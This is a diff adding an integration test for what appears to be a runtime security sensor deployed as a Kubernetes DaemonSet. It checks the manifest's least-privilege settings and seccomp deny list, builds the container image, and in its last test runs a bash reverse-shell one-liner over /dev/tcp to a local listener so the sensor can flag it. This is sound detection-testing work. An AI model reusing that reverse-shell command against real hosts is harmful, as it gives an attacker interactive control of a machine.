@@ -1,0 +1,144 @@
+/**
+ * Deployed as fleets run it. The image (packaging/container: a minimal Debian root filesystem,
+ * no compiler, the `npm pack` artifact installed offline) run exactly as the DaemonSet
+ * (packaging/kubernetes/daemonset.yaml, read here: hostPID, its capabilities, seccomp profile,
+ * read-only root, mounts) starts, and reports a reverse shell on the host and one in another
+ * container.
+ */
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { spawn, spawnSync, type ChildProcess } from "node:child_process";
+import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import net from "node:net";
+import { tmpdir } from "node:os";
+import { basename, join } from "node:path";
+import { parseAllDocuments } from "yaml";
+import { inCI, kernelTier, run } from "./harness.js";
+
+const tier = kernelTier();
+const hasPodman = spawnSync("podman", ["--version"]).status === 0 && spawnSync("debootstrap", ["--version"]).status === 0;
+if (tier.run && !hasPodman && inCI) throw new Error("image test: podman or debootstrap is missing in CI (bash scripts/setup.sh --dev installs them)");
+if (tier.run && !hasPodman) console.warn("image test skipped: podman or debootstrap not installed (bash scripts/setup.sh --dev)");
+
+const MANIFEST = "packaging/kubernetes/daemonset.yaml";
+const TAG = "localhost/sockeye-test:image-test";
+// runc: crun refuses hybrid cgroup hosts; the ulimits stay under a 20000 hard RLIMIT_NOFILE.
+const PODMAN = ["--runtime", "runc"];
+const RUN = ["run", "--rm", "--ulimit", "nofile=1024:1024", "--ulimit", "nproc=1024:1024"];
+
+interface Container {
+  args: string[];
+  securityContext: { allowPrivilegeEscalation: boolean; readOnlyRootFilesystem: boolean; runAsUser: number; privileged: boolean;
+    capabilities: { drop: string[]; add: string[] }; seccompProfile: { type: string; localhostProfile: string } };
+  volumeMounts: { name: string; mountPath: string; readOnly?: boolean }[];
+}
+interface PodSpec {
+  hostPID: boolean;
+  hostNetwork: boolean;
+  containers: Container[];
+  volumes: { name: string; hostPath?: { path: string }; emptyDir?: object }[];
+}
+
+/** The DaemonSet's pod spec, and the podman options that run a container as it says. */
+function daemonSetAsPodman(): { spec: PodSpec; options: string[]; args: string[] } {
+  const docs = parseAllDocuments(readFileSync(MANIFEST, "utf8")).map((d) => d.toJS() as { kind: string; spec: { template: { spec: PodSpec } } });
+  const spec = docs.find((d) => d.kind === "DaemonSet")!.spec.template.spec;
+  const [container] = spec.containers;
+  const sc = container!.securityContext;
+  const options = [
+    ...(spec.hostPID ? ["--pid", "host"] : []),
+    ...(spec.hostNetwork ? ["--network", "host"] : []),
+    "--user", String(sc.runAsUser),
+    ...sc.capabilities.drop.flatMap((c) => ["--cap-drop", c.toLowerCase()]),
+    ...sc.capabilities.add.flatMap((c) => ["--cap-add", c.toLowerCase()]),
+    ...(sc.readOnlyRootFilesystem ? ["--read-only"] : []),
+    ...(sc.allowPrivilegeEscalation ? [] : ["--security-opt", "no-new-privileges"]),
+    "--security-opt", `seccomp=${join("packaging/kubernetes", basename(sc.seccompProfile.localhostProfile))}`,
+  ];
+  for (const mount of container!.volumeMounts) {
+    const volume = spec.volumes.find((v) => v.name === mount.name)!;
+    if (volume.hostPath !== undefined) options.push("-v", `${volume.hostPath.path}:${mount.mountPath}${mount.readOnly === true ? ":ro" : ""}`);
+    else options.push("--tmpfs", mount.mountPath);
+  }
+  return { spec, options, args: container!.args };
+}
+
+describe("packaging/kubernetes/daemonset.yaml", () => {
+  it("is least privilege: no privileged, no SYS_ADMIN, every capability dropped but the unit's", () => {
+    const { spec } = daemonSetAsPodman();
+    const sc = spec.containers[0]!.securityContext;
+    expect(sc.privileged).toBe(false);
+    expect(sc.capabilities.drop).toEqual(["ALL"]);
+    const unit = readFileSync("packaging/sockeye.service", "utf8").match(/^CapabilityBoundingSet=(.+)$/m)![1]!.trim().split(/\s+/).map((c) => c.replace(/^CAP_/, ""));
+    expect([...sc.capabilities.add].sort()).toEqual([...unit].sort());
+    expect(sc.seccompProfile.type).toBe("Localhost");
+    const profile = JSON.parse(readFileSync(join("packaging/kubernetes", basename(sc.seccompProfile.localhostProfile)), "utf8")) as { syscalls: { names: string[]; action: string }[] };
+    const denied = profile.syscalls.filter((s) => s.action === "SCMP_ACT_ERRNO").flatMap((s) => s.names);
+    expect(denied).toEqual(expect.arrayContaining(["init_module", "kexec_load", "mount", "setns", "ptrace"]));
+    expect(denied).not.toContain("bpf");
+    expect(denied).not.toContain("perf_event_open");
+  });
+});
+
+describe.runIf(tier.run && hasPodman)("kernel: the image, run as the DaemonSet runs it", () => {
+  const work = mkdtempSync(join(tmpdir(), "sockeye-image-"));
+  let daemon: ChildProcess | undefined;
+
+  beforeAll(() => {
+    const built = spawnSync("bash", ["packaging/container/build-image.sh", TAG], { encoding: "utf8" });
+    expect(built.status, built.stderr).toBe(0);
+  }, 420_000);
+  afterAll(() => {
+    if (daemon?.exitCode === null) daemon.kill("SIGKILL");
+    spawnSync("podman", ["rmi", "-f", TAG]);
+    rmSync(work, { recursive: true, force: true });
+  });
+
+  it("carries the artifact, with its dependencies, and no compiler", async () => {
+    const packed = spawnSync("npm", ["pack", "--ignore-scripts", "--silent", "--pack-destination", work], { encoding: "utf8" });
+    expect(packed.status, packed.stderr).toBe(0);
+    const listing = spawnSync("tar", ["tzf", join(work, packed.stdout.trim())], { encoding: "utf8" }).stdout.split("\n");
+    expect(listing).toContain("package/build/Release/sockeye.node");
+    for (const dep of Object.keys((JSON.parse(readFileSync("package.json", "utf8")) as { dependencies: Record<string, string> }).dependencies))
+      expect(listing, `${dep} is bundled`).toContain(`package/node_modules/${dep}/package.json`);
+    const tools = await run("podman", [...PODMAN, ...RUN, "--network", "none", "--entrypoint", "/bin/sh", TAG, "-c",
+      "for t in cc gcc clang cmake make bpftool; do command -v $t; done; ls /usr/include/bpf /usr/include/libelf.h 2>/dev/null; sockeye --version"]);
+    expect(tools.stdout.trim()).toBe((JSON.parse(readFileSync("package.json", "utf8")) as { version: string }).version);
+  }, 60_000);
+
+  it("starts with the manifest's securityContext and mounts, and reports a shell on the host and one in another container", async () => {
+    const { options, args } = daemonSetAsPodman();
+    daemon = spawn("podman", [...PODMAN, ...RUN, ...options, TAG, ...args, "--stats-interval", "0"], { stdio: ["ignore", "pipe", "pipe"] });
+    let stdout = "", stderr = "";
+    daemon.stdout!.on("data", (d) => (stdout += d));
+    daemon.stderr!.on("data", (d) => (stderr += d));
+    const exited = new Promise<number | null>((resolve) => daemon!.on("exit", (code) => resolve(code)));
+    const deadline = Date.now() + 30_000;
+    while (!stderr.includes('"message":"sensor ready"') && daemon.exitCode === null && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
+    expect(stderr).toContain('"message":"sensor ready"');
+    expect(stderr).not.toMatch(/running without CAP_/);
+
+    const sockets = new Set<net.Socket>();
+    const server = net.createServer((s) => { sockets.add(s); s.on("error", () => {}); s.end("exit\n"); });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    const port = (server.address() as net.AddressInfo).port;
+    const shell = `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`;
+    // exec: the shell keeps the pid spawned here, which its finding must name.
+    const onHost = await run("bash", ["-c", `exec ${shell}`]);
+    const inContainer = await run("podman", [...PODMAN, ...RUN, "--network", "host", "--entrypoint", "/bin/bash", TAG, "-c", shell]);
+    expect(inContainer.status, inContainer.stderr).toBe(0);
+
+    type Finding = { rule: { id: string }; destination?: { port: number }; process: { name: string; pid: number } };
+    const findings = () => stdout.split("\n").filter(Boolean).map((l) => JSON.parse(l) as Finding).filter((f) => f.destination?.port === port);
+    const until = Date.now() + 5_000;
+    while (findings().length < 2 && Date.now() < until) await new Promise((r) => setTimeout(r, 100));
+    expect(findings().map((f) => f.rule.id)).toEqual(["TRC-101", "TRC-101"]);
+    const pids = findings().map((f) => f.process.pid);
+    expect(pids).toContain(onHost.pid);
+    expect(pids.filter((pid) => pid !== onHost.pid)).toHaveLength(1);
+    for (const s of sockets) s.destroy();
+    server.close();
+
+    daemon.kill("SIGTERM");
+    expect(await exited).toBe(0);
+  }, 90_000);
+});
